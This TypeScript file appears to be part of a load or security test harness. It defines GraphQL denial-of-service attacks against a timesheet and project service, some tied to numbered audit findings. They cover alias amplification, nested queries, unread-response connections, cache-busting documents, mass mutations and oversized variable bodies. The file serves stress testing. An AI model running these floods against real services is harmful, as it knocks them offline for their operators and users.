import { createHash } from 'node:crypto';
import { getIntrospectionQuery } from 'graphql';
import { type Attack, type AttackSession, aliases, clientAt, graphql, post, toText } from '../attack.ts';

/** Maximum aliases within the token limit of a document. */
const ID_ALIASES = 1_550;
const NOTES_ALIASES = 590;
/** Aliases of a 900 KB text whose response is just below 64 MiB. */
export const ALLOWED_NOTES_ALIASES = 72;

export const nestedQuery = (builderId: string) => `
  fragment F on Timesheet { ${aliases(ID_ALIASES, 'id')} }
  { timesheets(builderId: "${builderId}") { data { ...F project { details { timesheets { data { ...F } } } } } } }`;

export const notesQuery = (builderId: string, meetingId: string, count: number) =>
  `{ meeting(builderId: "${builderId}", meetingId: "${meetingId}") { ${aliases(count, 'notes')} } }`;

/** Returns a document that repeats response keys, which validation compares in pairs. */
function repeatedKeys(builderId: string, variant: number): string {
  const field = `x: builder(builderId: "${builderId}") { id }`;
  switch (variant % 3) {
    case 0:
      return `{ ${'me { id } '.repeat(1_240)} }`;
    case 1:
      return `{ ${`${field} `.repeat(270)} }`;
    default: {
      const fragments = Array.from({ length: 150 }, (_, at) => `fragment F${at} on Builder { id name ...F${at + 1} }`);
      const spreads = Array.from({ length: 150 }, (_, at) => `...F${at}`).join(' ');
      return `{ builder(builderId: "${builderId}") { ${spreads} } } ${fragments.join(' ')} fragment F150 on Builder { id }`;
    }
  }
}

/** Keeps connections open that send a request and do not read its response. Closed ones are opened again. */
export async function openWithoutReading(
  session: AttackSession,
  connections: number,
  make: (number: number) => string,
): Promise<void> {
  let number = 0;
  const open = () => {
    if (session.isOver) return;
    const socket = session.openSocket(make(number++));
    session.count('sent');
    socket.pause();
    // A paused socket emits no event when the other side closes it.
    const timer = setInterval(() => {
      if (!socket.destroyed) return;
      clearInterval(timer);
      open();
    }, 250);
  };
  for (let at = 0; at < connections; at++) open();
  await session.waitForEnd();
}

export const graphqlAttacks: Attack[] = [
  {
    ...{ name: 'graphql-aliases', finding: '1a', short: true },
    about: `GraphQL: nested timesheets → project → timesheets, ${ID_ALIASES} aliases of \`id\` in a fragment, 3 at once`,
    run: (session) => {
      const { attacker } = session;
      const query = nestedQuery(attacker.builderId);
      return session.flood(3, (number) => graphql(attacker, number, query));
    },
  },
  {
    ...{ name: 'graphql-notes', finding: '1b', short: true },
    about: `GraphQL: ${NOTES_ALIASES} aliases of one 900 KB text, 5 at once`,
    run: (session) => {
      const { attacker } = session;
      const query = notesQuery(attacker.builderId, attacker.notesMeetingId, NOTES_ALIASES);
      return session.flood(5, (number) => graphql(attacker, number, query));
    },
  },
  {
    name: 'graphql-notes-allowed',
    about: `GraphQL: ${ALLOWED_NOTES_ALIASES} aliases of one 900 KB text (just below the limit), 12 at once`,
    run: (session) => {
      const { attacker } = session;
      const query = notesQuery(attacker.builderId, attacker.notesMeetingId, ALLOWED_NOTES_ALIASES);
      return session.flood(12, (number) => graphql(attacker, number, query));
    },
  },
  {
    ...{ name: 'graphql-unread', finding: '1c' },
    about: 'Six clients that do not read their responses: 590 aliases of 900 KB',
    run: (session) => {
      const { attacker } = session;
      const query = notesQuery(attacker.builderId, attacker.notesMeetingId, NOTES_ALIASES);
      return openWithoutReading(session, 6, (number) => toText(graphql(attacker, number, query)));
    },
  },
  {
    name: 'graphql-unread-allowed',
    about: 'Forty connections that do not read their responses: 63 MiB of GraphQL each',
    run: (session) => {
      const { attacker } = session;
      const query = notesQuery(attacker.builderId, attacker.notesMeetingId, ALLOWED_NOTES_ALIASES);
      return openWithoutReading(session, 40, (number) => toText(graphql(attacker, number, query)));
    },
  },
  {
    ...{ name: 'graphql-validation', finding: '8', short: true },
    about:
      'GraphQL documents of 15 KB whose validation is expensive (repeated response keys, introspection), 16 connections',
    run: (session) => {
      const { attacker } = session;
      const documents = [0, 1, 2].map((variant) => repeatedKeys(attacker.builderId, variant));
      documents.push(getIntrospectionQuery());
      return session.flood(16, (number) => {
        // A comment makes each document new, so that the caches have no effect.
        const document = `${documents[number % documents.length]} # ${number}`;
        return graphql(attacker, number, document);
      });
    },
  },
  {
    ...{ name: 'graphql-operation-name', short: true },
    about: 'GraphQL: an operation name of 1 MB that repeats the words of a suggestion, 8 connections',
    run: (session) => {
      const operationName = 'Did you mean '.repeat(80_000);
      return session.flood(8, (number) =>
        post(session.attacker, number, '/graphql', { query: '{ me { id } }', operationName }),
      );
    },
  },
  {
    name: 'graphql-distinct',
    about: 'GraphQL documents that are all different: parsed, validated, compiled and selected anew, 32 connections',
    run: (session) => {
      const { attacker } = session;
      const fields = ['id', 'status', 'date', 'hours', 'notes', 'timeType', 'costCode', 'createdAt', 'updatedAt'];
      return session.flood(32, (number) => {
        const chosen = fields.filter((_, at) => ((number + 1) >> at) & 1);
        const query = `{ timesheets(builderId: "${attacker.builderId}") { data { n${number}: id ${chosen.join(' ')}
          project { details { ${number & 512 ? 'name' : 'status'} photos { data { p${number}: ${number & 1_024 ? 'id' : 'key'} } } } } } } }`;
        return graphql(attacker, number, query);
      });
    },
  },
  {
    name: 'graphql-distinct-large',
    about: 'GraphQL documents of 1,500 fields that are all different and cheap to execute, 64 connections',
    run: (session) => {
      const { attacker } = session;
      return session.flood(64, (number) => {
        const fields = Array.from({ length: 1_500 }, (_, at) => `n${number}_${at}: id`).join(' ');
        return graphql(attacker, number, `{ builder(builderId: "${attacker.builderId}") { ${fields} } }`);
      });
    },
  },
  {
    name: 'persisted-queries',
    about: 'GraphQL: 40 registered documents of 17 KB in rotation, requested by their hashes, 32 connections',
    run: async (session) => {
      const { attacker } = session;
      const documents = Array.from({ length: 40 }, (_, at) => {
        const fields = Array.from({ length: 1_500 }, (__, field) => `n${at}_${field}: id`).join(' ');
        const query = `{ builder(builderId: "${attacker.builderId}") { ${fields} } }`;
        const sha256Hash = createHash('sha256').update(query).digest('hex');
        return { query, extensions: { persistedQuery: { version: 1, sha256Hash } } };
      });
      const client = session.client(32);
      await Promise.all(documents.map((body, at) => session.send(client, post(attacker, at, '/graphql', body))));
      const requests = documents.map(({ extensions }) => JSON.stringify({ extensions }));
      return session.flood(32, (number) => post(attacker, number, '/graphql', requests[number % requests.length]!));
    },
  },
  {
    name: 'graphql-widest',
    about: 'GraphQL near the cost limit: 25 × 25 records with all of their fields, 32 connections',
    run: (session) => {
      const { attacker } = session;
      const query = `{ projects(builderId: "${attacker.builderId}") { data { id name status timesheets { meta { totalCount } data {
        id createdAt updatedAt status date hours notes timesheetGroupId timeType costCode profile { id fullName type }
        project { id name } } } photos { data { id fileName metadata imageUrl } } } } }`;
      return session.flood(32, (number) => graphql(attacker, number, query));
    },
  },
  {
    name: 'graphql-variables',
    about:
      'One GraphQL document: fifty executions with pages of one record, then 64 at once with full pages, and so on',
    run: async (session) => {
      const { attacker } = session;
      const query = `query ($b: BuilderId!, $n: PageLimit) { projects(builderId: $b, limit: $n) { data { id name
        timesheets(limit: $n) { data { id createdAt updatedAt status date hours notes timeType costCode
          profile { id fullName type } project { id name } } } } } }`;
      const client = session.client(64);
      const send = (number: number, n: number) =>
        session.send(client, graphql(attacker, number, query, { b: attacker.builderId, n }));
      while (!session.isOver) {
        await Promise.all(Array.from({ length: 50 }, (_, at) => send(at, 1)));
        await Promise.all(Array.from({ length: 64 }, (_, at) => send(at, 25)));
      }
    },
  },
  {
    name: 'graphql-mutations',
    about: 'GraphQL requests of 150 mutations each, one transaction after the other, 32 connections',
    run: (session) => {
      const { attacker } = session;
      return session.flood(32, (number) => {
        const mutation = (at: number) =>
          `m${at}: createMeeting(builderId: "${attacker.builderId}", title: "Attack ${number} ${at}") { id }`;
        const query = `mutation { ${Array.from({ length: 150 }, (_, at) => mutation(at)).join(' ')} }`;
        return graphql(attacker, number, query);
      });
    },
  },
  {
    name: 'events-aliases',
    about: 'GraphQL: 49 pages of the event log, each of which passes over 5,000 events, 16 connections',
    run: (session) => {
      const { attacker, scenario } = session;
      const field = `events(after: "${scenario.eventCursor}", types: ["defect.created"], limit: 1) { data { id } }`;
      return session.flood(16, (number) => graphql(attacker, number, `{ ${aliases(49, field)} }`));
    },
  },
  {
    name: 'graphql-tiny',
    about: 'The smallest GraphQL request at full rate, 256 connections of six clients',
    run: (session) => session.flood(256, (number) => graphql(session.attacker, number, '{ me { id } }')),
  },
  {
    name: 'graphql-large-variables',
    about: 'GraphQL bodies of 1 MB and of 30 MB whose variables are `{},` repeated, 8 connections',
    run: (session) => {
      const { attacker } = session;
      const body = (bytes: number) =>
        `{"query":"query ($a: BuilderId!) { builder(builderId: $a) { id } }","variables":{"a":[${'{},'.repeat(bytes / 3)}{}]}}`;
      const bodies = [body(1_000_000), body(30_000_000)];
      return session.flood(8, (number) => {
        const { token } = clientAt(attacker, number);
        const headers = { authorization: `Bearer ${token}`, 'content-type': 'application/json' };
        return { method: 'POST', path: '/graphql', headers, body: bodies[number % 2]! };
      });
    },
  },
];
